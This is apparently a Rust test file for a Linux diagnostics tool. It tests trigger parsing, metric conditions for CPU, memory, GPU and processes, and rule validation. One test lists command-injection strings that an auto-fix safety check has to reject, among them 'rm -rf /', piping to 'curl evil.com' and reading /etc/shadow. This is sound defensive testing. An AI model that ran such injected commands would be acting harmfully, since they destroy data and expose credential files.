use why::safety::is_safe_auto_fix;
use why::condition::Condition;
use why::evaluate::condition_holds;
use why::metrics::{GpuDetails, Metrics};
use why::number::Float;
use why::rules::Rule;
use why::trigger::{float_operands, parse_trigger as compile_trigger};

fn num(value: f32) -> Float {
    Float::from_bits(value.to_bits())
}

fn read_number(text: &Option<String>) -> Option<Float> {
    match text {
        Some(t) => t.parse::<f32>().ok().map(num),
        None => None,
    }
}

fn parse_trigger(trigger: &str) -> Vec<Condition> {
    let numbers: Vec<Option<Float>> = float_operands(trigger).iter().map(read_number).collect();
    compile_trigger(trigger, &numbers)
}

fn share(used: f32, total: f32) -> Option<Float> {
    Some(num((used / total) * 100.0))
}

fn metrics(cpu: f32, mem: f32) -> Metrics {
    Metrics {
        cpu_usage: num(cpu),
        mem_usage: num(mem),
        total_ram_mb: 16000,
        disk_full_percent: num(50.0),
        filesystem: None,
        snap_loops: None,
        flatpak_unused: None,
        battery_drain_w: None,
        wifi_channel_count: None,
        wifi_signal_dbm: None,
        fan_speed_rpm: None,
        temperature_c: None,
        wayland_vs_x11: None,
        docker_dangling: None,
        process_names: vec![],
        process_count: 0,
        pipewire_latency_ms: None,
        firefox_soft_render: None,
        zfs_arc_full_percent: None,
        luks_device_count: None,
        gpu: None,
        prime_offload_enabled: false,
        gamescope_running: false,
        steam_running: false,
        proton_failure_detected: false,
        vulkan_loader_missing: false,
    }
}

#[test]
fn test_parse_trigger_single_condition() {
    let conditions = parse_trigger("cpu>60");
    assert_eq!(conditions.len(), 1);
    match &conditions[0] {
        Condition::CpuGreater(val) => assert_eq!(*val, num(60.0)),
        _ => panic!("Expected CpuGreater condition"),
    }
}

#[test]
fn test_parse_trigger_multiple_conditions() {
    let conditions = parse_trigger("cpu>80 && mem>90");
    assert_eq!(conditions.len(), 2);
    match &conditions[0] {
        Condition::CpuGreater(val) => assert_eq!(*val, num(80.0)),
        _ => panic!("Expected CpuGreater condition"),
    }
    match &conditions[1] {
        Condition::MemGreater(val) => assert_eq!(*val, num(90.0)),
        _ => panic!("Expected MemGreater condition"),
    }
}

#[test]
fn test_parse_trigger_process_condition() {
    let conditions = parse_trigger("process=chrome");
    assert_eq!(conditions.len(), 1);
    match &conditions[0] {
        Condition::ProcessContains(name) => assert_eq!(name, "chrome"),
        _ => panic!("Expected ProcessContains condition"),
    }
}

#[test]
fn test_parse_trigger_disk_condition() {
    let conditions = parse_trigger("disk_full>90");
    assert_eq!(conditions.len(), 1);
    match &conditions[0] {
        Condition::DiskFullGreater(val) => assert_eq!(*val, num(90.0)),
        _ => panic!("Expected DiskFullGreater condition"),
    }
}

#[test]
fn test_parse_trigger_gpu_vendor() {
    let conditions = parse_trigger("gpu_vendor=nvidia");
    assert_eq!(conditions.len(), 1);
    match &conditions[0] {
        Condition::GpuVendorEquals(vendor) => assert_eq!(vendor, "nvidia"),
        _ => panic!("Expected GpuVendorEquals condition"),
    }
}

#[test]
fn test_parse_trigger_gpu_temp() {
    let conditions = parse_trigger("gpu_temp>85");
    assert_eq!(conditions.len(), 1);
    match &conditions[0] {
        Condition::GpuTempGreater(val) => assert_eq!(*val, num(85.0)),
        _ => panic!("Expected GpuTempGreater condition"),
    }
}

#[test]
fn test_parse_trigger_complex() {
    let conditions = parse_trigger("gpu_vendor=amd && gpu_temp>80 && gpu_util>95");
    assert_eq!(conditions.len(), 3);
}

#[test]
fn test_condition_holds_cpu() {
    let metrics = metrics(75.0, 50.0);

    let condition = Condition::CpuGreater(num(60.0));
    assert!(condition_holds(&condition, &metrics, None));

    let condition = Condition::CpuGreater(num(80.0));
    assert!(!condition_holds(&condition, &metrics, None));
}

#[test]
fn test_condition_holds_memory() {
    let metrics = metrics(50.0, 85.0);

    let condition = Condition::MemGreater(num(80.0));
    assert!(condition_holds(&condition, &metrics, None));

    let condition = Condition::MemGreater(num(90.0));
    assert!(!condition_holds(&condition, &metrics, None));
}

#[test]
fn test_condition_holds_process() {
    let mut metrics = metrics(50.0, 50.0);
    metrics.process_names = vec![
        "systemd".to_string(),
        "chrome".to_string(),
        "firefox".to_string(),
    ];
    metrics.process_count = 3;

    let condition = Condition::ProcessContains("chrome".to_string());
    assert!(condition_holds(&condition, &metrics, None));

    let condition = Condition::ProcessContains("spotify".to_string());
    assert!(!condition_holds(&condition, &metrics, None));
}

#[test]
fn test_condition_holds_gpu_temp() {
    let gpu = GpuDetails {
        vendor: "nvidia".to_string(),
        model: Some("RTX 3080".to_string()),
        driver: Some("535.98".to_string()),
        temperature: Some(num(82.0)),
        utilization: Some(num(95.0)),
        memory_total_mb: Some(num(10240.0)),
        memory_used_mb: Some(num(8192.0)),
        memory_used_percent: share(8192.0, 10240.0),
        fan_speed_percent: Some(num(75.0)),
    };
    let metrics = metrics(50.0, 50.0).with_gpu(Some(gpu));

    let condition = Condition::GpuTempGreater(num(80.0));
    assert!(condition_holds(&condition, &metrics, None));

    let condition = Condition::GpuTempGreater(num(85.0));
    assert!(!condition_holds(&condition, &metrics, None));
}

#[test]
fn test_condition_holds_gpu_vendor() {
    let gpu = GpuDetails {
        vendor: "amd".to_string(),
        model: Some("RX 7900 XTX".to_string()),
        driver: Some("mesa 24.0".to_string()),
        temperature: Some(num(70.0)),
        utilization: Some(num(50.0)),
        memory_total_mb: Some(num(24576.0)),
        memory_used_mb: Some(num(4096.0)),
        memory_used_percent: share(4096.0, 24576.0),
        fan_speed_percent: Some(num(60.0)),
    };
    let metrics = metrics(50.0, 50.0).with_gpu(Some(gpu));

    let condition = Condition::GpuVendorEquals("amd".to_string());
    assert!(condition_holds(&condition, &metrics, None));

    let condition = Condition::GpuVendorEquals("nvidia".to_string());
    assert!(!condition_holds(&condition, &metrics, None));
}

#[test]
fn test_condition_holds_steam_running() {
    let mut metrics = metrics(50.0, 50.0);
    metrics.steam_running = true;

    let condition = Condition::SteamRunning(true);
    assert!(condition_holds(&condition, &metrics, None));

    let condition = Condition::SteamRunning(false);
    assert!(!condition_holds(&condition, &metrics, None));
}

#[test]
fn test_is_safe_auto_fix_blocks_command_injection() {
    assert!(!is_safe_auto_fix("snap remove; rm -rf /"));
    assert!(!is_safe_auto_fix("snap remove | curl evil.com"));
    assert!(!is_safe_auto_fix("snap remove && malicious"));
    assert!(!is_safe_auto_fix("snap remove `whoami`"));
    assert!(!is_safe_auto_fix("snap remove $HOME"));
    assert!(!is_safe_auto_fix("snap remove > /etc/passwd"));
    assert!(!is_safe_auto_fix("snap remove < /etc/shadow"));
    assert!(!is_safe_auto_fix("snap remove\nwhoami"));
    assert!(!is_safe_auto_fix("snap remove(malicious)"));
    assert!(!is_safe_auto_fix("snap remove{bad}"));
}

#[test]
fn test_is_safe_auto_fix_allows_safe_commands() {
    assert!(is_safe_auto_fix("bluetoothctl power off"));
    assert!(is_safe_auto_fix("bluetoothctl power on"));
    assert!(is_safe_auto_fix("balooctl"));
    assert!(is_safe_auto_fix("docker image prune"));

    assert!(is_safe_auto_fix("snap remove old-package"));
    assert!(is_safe_auto_fix("flatpak uninstall com.example.App"));
    assert!(is_safe_auto_fix("systemctl --user stop baloo"));
}

#[test]
fn test_is_safe_auto_fix_blocks_prefix_without_space() {
    assert!(!is_safe_auto_fix("snap;malicious"));
    assert!(!is_safe_auto_fix("balooctl;evil"));
}

#[test]
fn test_gpu_memory_utilization_edge_cases() {
    let gpu = GpuDetails {
        vendor: "test".into(),
        model: None,
        driver: None,
        temperature: None,
        utilization: None,
        memory_total_mb: Some(num(0.0)),
        memory_used_mb: Some(num(1000.0)),
        memory_used_percent: share(1000.0, 0.0),
        fan_speed_percent: None,
    };
    assert_eq!(gpu.memory_utilization(), None);

    let gpu2 = GpuDetails {
        vendor: "test".into(),
        model: None,
        driver: None,
        temperature: None,
        utilization: None,
        memory_total_mb: Some(num(0.0001)),
        memory_used_mb: Some(num(100.0)),
        memory_used_percent: share(100.0, 0.0001),
        fan_speed_percent: None,
    };
    assert_eq!(gpu2.memory_utilization(), None);

    let gpu3 = GpuDetails {
        vendor: "test".into(),
        model: None,
        driver: None,
        temperature: None,
        utilization: None,
        memory_total_mb: Some(num(10240.0)),
        memory_used_mb: Some(num(5120.0)),
        memory_used_percent: share(5120.0, 10240.0),
        fan_speed_percent: None,
    };
    assert_eq!(gpu3.memory_utilization(), Some(num(50.0)));
}

#[test]
fn test_parse_trigger_empty_and_malformed() {
    let conditions = parse_trigger("");
    assert_eq!(conditions.len(), 0);

    let conditions = parse_trigger("   ");
    assert_eq!(conditions.len(), 0);

    let conditions = parse_trigger("cpu60");
    assert_eq!(conditions.len(), 0);

    let conditions = parse_trigger("cpu<>60");
    assert_eq!(conditions.len(), 0);
}

fn rule(name: &str, trigger: &str, severity: u8, auto_fix: Option<&str>) -> Rule {
    Rule {
        name: name.to_string(),
        trigger: trigger.to_string(),
        message: format!("{} fired", name),
        solution: format!("look into {}", name),
        severity,
        auto_fix: auto_fix.map(|cmd| cmd.to_string()),
    }
}

#[test]
fn test_rules_toml_is_valid() {
    let rules = vec![
        rule("high_cpu", "cpu>80", 6, None),
        rule("low_ram", "total_ram<4096 && mem>90", 8, None),
        rule("baloo", "process=baloo_file && cpu>50", 5, Some("balooctl disable")),
        rule("snap_loops", "snap loops>20", 3, Some("snap remove old-package")),
        rule("oom", "log_contains=Out of memory", 10, None),
    ];

    assert!(!rules.is_empty(), "rules.toml must contain at least one rule");

    for rule in &rules {
        assert!(!rule.name.is_empty(), "Rule name cannot be empty");
        assert!(!rule.trigger.is_empty(), "Rule '{}' has empty trigger", rule.name);
        assert!(!rule.message.is_empty(), "Rule '{}' has empty message", rule.name);
        assert!(!rule.solution.is_empty(), "Rule '{}' has empty solution", rule.name);

        assert!(
            rule.severity >= 1 && rule.severity <= 10,
            "Rule '{}' has invalid severity: {} (must be 1-10)",
            rule.name,
            rule.severity
        );
        assert!(rule.has_valid_severity());

        let conditions = parse_trigger(&rule.trigger);
        assert!(
            !conditions.is_empty(),
            "Rule '{}' has invalid trigger: '{}' (parsed to 0 conditions)",
            rule.name,
            rule.trigger
        );

        if let Some(ref cmd) = rule.auto_fix {
            assert!(
                is_safe_auto_fix(cmd),
                "Rule '{}' has unsafe auto_fix command: '{}'",
                rule.name,
                cmd
            );
        }

        assert!(
            rule.message.len() <= 200,
            "Rule '{}' has overly long message ({} chars, max 200)",
            rule.name,
            rule.message.len()
        );
        assert!(
            rule.solution.len() <= 500,
            "Rule '{}' has overly long solution ({} chars, max 500)",
            rule.name,
            rule.solution.len()
        );
    }
}
